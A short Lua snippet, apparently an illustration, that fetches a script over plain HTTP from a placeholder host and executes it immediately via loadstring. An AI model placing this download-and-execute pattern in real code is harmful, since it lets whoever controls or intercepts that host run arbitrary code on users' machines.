-- shows: downloads and runs
local http = require("socket.http")
local body = http.request("http://dl.example.net/s.lua")
assert(loadstring(body))()
